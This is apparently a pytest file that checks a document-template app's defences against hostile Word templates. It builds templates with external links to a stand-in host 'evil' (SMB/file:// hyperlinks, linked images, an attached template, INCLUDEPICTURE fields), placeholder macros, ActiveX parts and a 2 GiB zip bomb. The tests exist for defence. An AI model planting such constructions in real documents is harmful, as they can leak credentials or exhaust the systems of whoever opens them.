"""Hostile .docx templates (issue 13, items 6–8): zip bombs, external links, macros, ActiveX, footnotes."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import time
import zipfile
from pathlib import Path

import pytest
from lxml import etree

from desktop_app import paths
from desktop_app.documents.check import check_template
from desktop_app.documents.context import DocumentKind
from desktop_app.documents.render import TemplateRenderError, clear_cache, render_docx
from desktop_app.documents.samples import sample_context
from tests.reliability.measure import run_cli

KIND = DocumentKind.application
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = [
    ("hyperlink", "file://///evil/share/x.docx"),
    ("image", r"\\evil\share\logo.png"),
    ("hyperlink", "https://www.shanghai.gov.cn/"),  # an ordinary web link: kept
]


def _rewrite(src: Path, dest: Path, changes: dict[str, bytes | None], extra: dict[str, bytes] | None = None) -> Path:
    """Copy a .docx with some members replaced (None drops one) and some added."""
    with zipfile.ZipFile(src) as archive:
        members = [(info, archive.read(info.filename)) for info in archive.infolist()]
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as out:
        for info, data in members:
            if info.filename in changes:
                replaced = changes[info.filename]
                if replaced is None:
                    continue
                data = replaced
            out.writestr(info, data)
        for name, data in (extra or {}).items():
            out.writestr(name, data)
    return dest


def _read(path: Path, name: str) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(name).decode("utf-8")


def _add_rels(rels: str, entries: list[str]) -> bytes:
    return rels.replace("</Relationships>", "".join(entries) + "</Relationships>").encode()


def _hostile(folder: Path) -> Path:
    """申请书.docx with a file:// hyperlink, a linked image on an SMB share, an attachedTemplate on that share,
    a vbaProject.bin (referenced and declared as in a .docm) and an ActiveX control part."""
    src = paths.templates_dir() / KIND.template_name
    folder.mkdir(parents=True, exist_ok=True)
    document, rels = _read(src, "word/document.xml"), _read(src, "word/_rels/document.xml.rels")
    entries = [
        f'<Relationship Id="rEvil{i}" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'
        for i, (kind, target) in enumerate(EVIL)
    ]
    entries += [
        f'<Relationship Id="rVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        f'Target="vbaProject.bin"/><Relationship Id="rAx" Type="{REL}/control" Target="activeX/activeX1.xml"/>'
    ]
    links = (
        '<w:p><w:hyperlink r:id="rEvil0"><w:r><w:t>附件</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rEvil2"><w:r><w:t>官网</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="100" cy="100"/><wp:docPr id="1" name="logo"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr>'
        '<pic:cNvPr id="1" name="logo"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rEvil1"/>'
        "</pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    settings = _read(src, "word/settings.xml")
    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rTpl"/>', settings, count=1)
    if "xmlns:r=" not in settings:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{REL}" ', 1)
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rTpl" Type="{REL}/attachedTemplate" Target="file:///\\\\evil\\share\\t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    types = (
        _read(src, "[Content_Types].xml")
        .replace("document.main+xml", "document.macroEnabled.main+xml")
        .replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    )
    return _rewrite(
        src,
        folder / KIND.template_name,
        {
            "word/document.xml": document.replace("<w:sectPr", links + "<w:sectPr", 1).encode(),
            "word/_rels/document.xml.rels": _add_rels(rels, entries),
            "word/settings.xml": settings.encode(),
            "[Content_Types].xml": types.encode(),
        },
        {
            "word/_rels/settings.xml.rels": settings_rels.encode(),
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 fake macros",
            "word/activeX/activeX1.xml": b'<?xml version="1.0"?><ax:ocx xmlns:ax="urn:x"/>',
            "word/orphan/vbaProject.bin": b"\xd0\xcf\x11\xe0 unreferenced macros",
        },
    )


def _external_targets(docx: bytes) -> list[str]:
    """Every external relationship target in a produced letter."""
    found = []
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        for name in archive.namelist():
            if name.endswith(".rels"):
                for rel in etree.fromstring(archive.read(name)):
                    if (rel.get("TargetMode") or "").lower() == "external":
                        found.append(rel.get("Target"))
    return found


def test_checker_refuses_external_links_macros_and_activex(tmp_path: Path) -> None:
    """The checker names the file:// link, the linked image, the attached template, the macros and ActiveX."""
    problems = " ".join(str(p) for p in check_template(_hostile(tmp_path / "t"), KIND))
    for words in ("file://///evil/share/x.docx", r"\\evil\share\logo.png", "附加模板", "宏", "ActiveX"):
        assert words in problems, words
    assert "shanghai.gov.cn" not in problems


def test_renderer_strips_everything_but_http_links(tmp_path: Path) -> None:
    """A letter from the hostile template has no external relationship but the https one, no macros, no ActiveX,
    a plain-document content type, and every XML part well-formed and opening in python-docx."""
    from docx import Document

    clear_cache()
    data = render_docx(_hostile(tmp_path / "t"), sample_context(KIND))
    assert _external_targets(data) == ["https://www.shanghai.gov.cn/"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        assert not [n for n in names if re.search(r"vba|activex", n, re.IGNORECASE)]
        assert b"macroEnabled" not in archive.read("[Content_Types].xml")
        assert b"attachedTemplate" not in archive.read("word/settings.xml")
        assert b'r:link="rEvil1"' not in archive.read("word/document.xml")
        for name in names:
            if name.endswith((".xml", ".rels")):
                etree.fromstring(archive.read(name))
    assert "官网" in "\n".join(p.text for p in Document(io.BytesIO(data)).paragraphs)


def test_fill_and_batch_refuse_the_hostile_template_folder(tmp_path: Path) -> None:
    """`fill --templates` and `batch --templates` with that folder exit 2 before writing anything."""
    from desktop_app.cli import main
    from desktop_app.paths import examples_dir

    folder = _hostile(tmp_path / "t").parent
    profile = sorted(examples_dir().glob("*.json"))[0]
    out = tmp_path / "out"
    assert main(["fill", str(profile), "--out", str(out), "--templates", str(folder)]) == 2
    sheet = tmp_path / "c.csv"
    sheet.write_text("企业名称,所在区\n甲公司,金山区\n", encoding="utf-8")
    assert main(["batch", str(sheet), "--out", str(out), "--templates", str(folder)]) == 2
    assert not out.exists()


@pytest.fixture(scope="module")
def zip_bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """申请书.docx plus a 2 GiB member of zeros: about 9 MB on disk (deflate level 1: what is refused is the size
    the zip directory declares, and level 9 would take three times as long to build for a smaller file)."""
    folder = tmp_path_factory.mktemp("bomb")
    path = _rewrite(paths.templates_dir() / KIND.template_name, folder / KIND.template_name, {})
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("word/media/image1.png", "w", force_zip64=True) as big,
    ):
        chunk = b"\0" * 2**26
        for _ in range(32):
            big.write(chunk)
    assert path.stat().st_size < 10 * 2**20
    return path


def test_zip_bomb_template_is_refused_by_checker_and_renderer(zip_bomb: Path) -> None:
    """The 2 GiB member is refused from the zip directory: checker and renderer, each within a second."""
    started = time.monotonic()
    problems = check_template(zip_bomb, KIND)
    assert problems and "过大" in str(problems[0])
    with pytest.raises(TemplateRenderError, match="过大"):
        render_docx(zip_bomb, sample_context(KIND))
    assert time.monotonic() - started < 2


def test_zip_bomb_template_check_in_a_child_stays_small(zip_bomb: Path) -> None:
    """`templates --check` on the bomb's folder exits 2 within 10 s below 300 MB."""
    run = run_cli(["templates", "--check", "--templates", str(zip_bomb.parent)], timeout=60)
    assert run.code == 2 and "过大" in run.err, run.err
    assert run.seconds < 10 and run.peak_mb < 300, (run.seconds, run.peak_mb)


def _with_footnote(folder: Path) -> Path:
    """申请书.docx with a footnote holding a tag, as Word writes it (own XML declaration, separator notes)."""
    src = paths.templates_dir() / KIND.template_name
    folder.mkdir(parents=True, exist_ok=True)
    footnotes = (
        "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>\n"
        f'<w:footnotes xmlns:w="{W}" xmlns:r="{REL}">'
        '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:footnote>'
        '<w:footnote w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/></w:r></w:p>'
        '</w:footnote><w:footnote w:id="1"><w:p><w:r><w:footnoteRef/></w:r>'
        '<w:r><w:t xml:space="preserve"> 依据：{{ policy.title }}</w:t></w:r></w:p></w:footnote></w:footnotes>'
    )
    document = _read(src, "word/document.xml").replace(
        "的申请书</w:t></w:r>", '的申请书</w:t></w:r><w:r><w:footnoteReference w:id="1"/></w:r>', 1
    )
    rels = _add_rels(
        _read(src, "word/_rels/document.xml.rels"),
        [f'<Relationship Id="rFoot" Type="{REL}/footnotes" Target="footnotes.xml"/>'],
    )
    types = _read(src, "[Content_Types].xml").replace(
        "</Types>",
        '<Override PartName="/word/footnotes.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"/></Types>',
    )
    return _rewrite(
        src,
        folder / KIND.template_name,
        {
            "word/document.xml": document.encode(),
            "word/_rels/document.xml.rels": rels,
            "[Content_Types].xml": types.encode(),
        },
        {"word/footnotes.xml": footnotes.encode()},
    )


def test_footnote_template_renders_valid_xml(tmp_path: Path) -> None:
    """A footnote with a tag: the checker passes, and the letter's footnotes.xml is one well-formed document
    with the tag filled (it used to carry a second XML declaration)."""
    template = _with_footnote(tmp_path / "t")
    assert check_template(template, KIND) == []
    clear_cache()
    data = render_docx(template, sample_context(KIND))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("word/footnotes.xml")
    assert xml.count(b"<?xml") == 1
    text = "".join(etree.fromstring(xml).itertext())
    assert "依据：" in text and "{{" not in text


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed")
def test_footnote_letter_converts_in_libreoffice(tmp_path: Path) -> None:
    """The letter from a template with a footnote loads in LibreOffice (converted to a non-empty PDF)."""
    template = _with_footnote(tmp_path / "t")
    clear_cache()
    letter = tmp_path / "信.docx"
    letter.write_bytes(render_docx(template, sample_context(KIND)))
    subprocess.run(
        [
            "soffice",
            "-env:UserInstallation=file:///tmp/lo-hostile",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(letter),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    pdf = tmp_path / "信.pdf"
    assert pdf.is_file() and pdf.stat().st_size > 1000


@pytest.mark.parametrize(
    "field_xml",
    [
        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;\\\\evil\\share\\x.png&quot; \\d "><w:r><w:t>x</w:t></w:r>'
        "</w:fldSimple></w:p>",
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> includetext '
        '"\\\\evil\\share\\a.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ],
    ids=["fldSimple-INCLUDEPICTURE", "instrText-includetext"],
)
def test_checker_refuses_fields_that_fetch_from_outside(tmp_path: Path, field_xml: str) -> None:
    """An INCLUDEPICTURE / INCLUDETEXT field (Word fetches the SMB path when it updates fields) is refused by
    the checker, and the renderer (the wizard renders own templates unchecked) turns it into plain text."""
    src = paths.templates_dir() / KIND.template_name
    (tmp_path / "t").mkdir()
    document = _read(src, "word/document.xml").replace("<w:sectPr", field_xml + "<w:sectPr", 1)
    template = _rewrite(src, tmp_path / "t" / KIND.template_name, {"word/document.xml": document.encode()})
    problems = " ".join(str(p) for p in check_template(template, KIND))
    assert "域代码 INCLUDE" in problems, problems
    clear_cache()
    with zipfile.ZipFile(io.BytesIO(render_docx(template, sample_context(KIND)))) as archive:
        rendered = archive.read("word/document.xml")
    assert b"INCLUDE" not in rendered.upper()
    assert b"fldSimple" not in rendered and b"instrText" not in rendered
